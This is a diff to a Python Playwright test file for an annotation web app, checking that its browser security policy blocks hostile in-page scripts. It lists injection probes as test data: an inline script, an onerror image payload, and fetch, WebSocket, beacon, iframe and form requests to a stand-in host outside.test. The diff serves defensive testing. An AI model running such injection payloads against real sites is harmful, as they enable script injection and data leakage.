@@ -7,14 +7,14 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from playwright.sync_api import Browser, BrowserContext, expect
+from playwright.sync_api import BrowserContext, Page, expect
 
 from annotation.people.invites import invite
 from annotation.people.principals import local_admin
 from db.connect import transaction
 from db.tables import Study
 from tests.browser.conftest import EIGHT
-from tests.browser.driving import ready, until
+from tests.browser.driving import new_tab, ready, until
 from tests.browser.test_accessibility import violations
 from tests.security.policy import at_rest, refused, watch
 from tests.small_study import make_study
@@ -22,13 +22,13 @@ from tests.small_study import make_study
 pytestmark = pytest.mark.browser
 
 
-@pytest.fixture(scope="module")
-def watched(browser: Browser, server: Any) -> Iterator[tuple[BrowserContext, list[str]]]:
-    """A browser that notes whatever its policy refuses, and the addresses elsewhere that it was asked to fetch."""
-    context = browser.new_context(viewport={"width": 1440, "height": 757})
-    context.set_default_timeout(30_000)
-    yield context, watch(context, server.address)
-    context.close()
+@pytest.fixture
+def watched(context: BrowserContext, server: Any) -> Iterator[tuple[Page, list[str]]]:
+    """A tab that notes whatever its policy refuses, and the addresses elsewhere that it was asked to fetch."""
+    page = new_tab(context)
+    page.set_default_timeout(30_000)
+    yield page, watch(page, server.address)
+    page.close()
 
 
 def link(server: Any, study_id: int, name: str, role: str) -> str:
@@ -38,11 +38,10 @@ def link(server: Any, study_id: int, name: str, role: str) -> str:
 
 
 def test_an_annotators_pages_break_nothing_and_fetch_nothing_from_elsewhere(
-    watched: tuple[BrowserContext, list[str]], server: Any, tmp_path: Path
+    watched: tuple[Page, list[str]], server: Any, tmp_path: Path
 ) -> None:
-    context, elsewhere = watched
+    (page, elsewhere), found = watched, {}
     study_id = make_study(server.engine, tmp_path / "reports", overlap=2, protocol=EIGHT, name="policy")
-    page, found = context.new_page(), {}
     page.goto(f"{server.address}/invite/unknown")
     found["no such link"] = refused(page)
     page.goto(link(server, study_id, "Ada", "annotator"))
@@ -67,7 +66,7 @@ def test_an_annotators_pages_break_nothing_and_fetch_nothing_from_elsewhere(
     expect(page.get_by_role("heading")).to_have_text("You are signed out")
     found["signed out"] = refused(page)
     page.goto(link(server, study_id, "Adm", "admin"))
-    for path in ("people", "progress", "disputes", "judges", "blinding", "paper", "log_out"):
+    for path in ("people", "blinding", "log_out"):  # an evaluator's: tests/browser/test_evaluator_screens.py
         page.goto(f"{server.address}/{path}")
         at_rest(page)
         found[path] = refused(page)
@@ -75,36 +74,36 @@ def test_an_annotators_pages_break_nothing_and_fetch_nothing_from_elsewhere(
     assert elsewhere == []
 
 
-@pytest.mark.parametrize(
-    "attempt",
-    [
-        "const s = document.createElement('script'); s.textContent = 'window.pwned = 1'; document.body.append(s)",
-        "const s = document.createElement('script'); s.src = 'https://outside.test/x.js'; document.body.append(s)",
-        "const i = new Image(); i.src = 'https://outside.test/pixel.png'; document.body.append(i)",
-        "const f = document.createElement('iframe'); f.src = 'https://outside.test/'; document.body.append(f)",
-        "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://outside.test/x.css'; document.head.append(l)",
-        "fetch('https://outside.test/', {mode: 'no-cors'}).catch(() => 0)",
-        "try { new WebSocket('wss://outside.test/') } catch {}",
-        "navigator.sendBeacon('https://outside.test/', 'x')",
-        "try { new Function('window.pwned = 1')() } catch {}",
-        "const d = document.createElement('div'); d.innerHTML = '<img src=x onerror=\"window.pwned=1\">'; document.body.append(d)",
-        "const f = document.createElement('form'); f.action = 'https://outside.test/'; document.body.append(f); f.submit()",
-        "const b = document.createElement('base'); b.href = 'https://outside.test/'; document.head.append(b)",
-        "const o = document.createElement('object'); o.data = 'data:text/html,x'; document.body.append(o)",
-    ],
+ATTEMPTS = (
+    "const s = document.createElement('script'); s.textContent = 'window.pwned = 1'; document.body.append(s)",
+    "const s = document.createElement('script'); s.src = 'https://outside.test/x.js'; document.body.append(s)",
+    "const i = new Image(); i.src = 'https://outside.test/pixel.png'; document.body.append(i)",
+    "const f = document.createElement('iframe'); f.src = 'https://outside.test/'; document.body.append(f)",
+    "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://outside.test/x.css'; document.head.append(l)",
+    "fetch('https://outside.test/', {mode: 'no-cors'}).catch(() => 0)",
+    "try { new WebSocket('wss://outside.test/') } catch {}",
+    "navigator.sendBeacon('https://outside.test/', 'x')",
+    "try { new Function('window.pwned = 1')() } catch {}",
+    "const d = document.createElement('div'); d.innerHTML = '<img src=x onerror=\"window.pwned=1\">'; document.body.append(d)",
+    "const f = document.createElement('form'); f.action = 'https://outside.test/'; document.body.append(f); f.submit()",
+    "const b = document.createElement('base'); b.href = 'https://outside.test/'; document.head.append(b)",
+    "const o = document.createElement('object'); o.data = 'data:text/html,x'; document.body.append(o)",
 )  # fmt: skip
-def test_what_a_hostile_page_would_do_is_refused(
-    watched: tuple[BrowserContext, list[str]], server: Any, attempt: str
-) -> None:
+
+
+def test_what_a_hostile_page_would_do_is_refused(watched: tuple[Page, list[str]], server: Any) -> None:
     """The counterpart: the policy stands on the app's own page, and each attempt is noted as refused."""
-    context, _ = watched
-    page = context.pages[0] if context.pages else context.new_page()
+    page, _ = watched
     page.goto(server.address)
     page.get_by_role("heading").first.wait_for()
     answered: list[str] = []
     page.on("response", lambda reply: answered.append(reply.url) if "outside.test" in reply.url else None)
-    page.evaluate("window.refused.length = 0")
-    page.evaluate(f"() => void setTimeout(() => {{ {attempt} }}, 0)")  # as a script of the page's own, not a debugger's
-    until(lambda: refused(page))
-    assert page.evaluate("window.pwned") is None
-    assert answered == []
+    for attempt in ATTEMPTS:
+        page.evaluate("window.refused.length = 0")
+        page.evaluate(
+            f"() => void setTimeout(() => {{ {attempt} }}, 0)"
+        )  # as a script of the page's own, not a debugger's
+        until(lambda: refused(page))
+        assert page.evaluate("window.pwned") is None, attempt
+        assert answered == [], attempt
+        assert page.url == f"{server.address}/", attempt
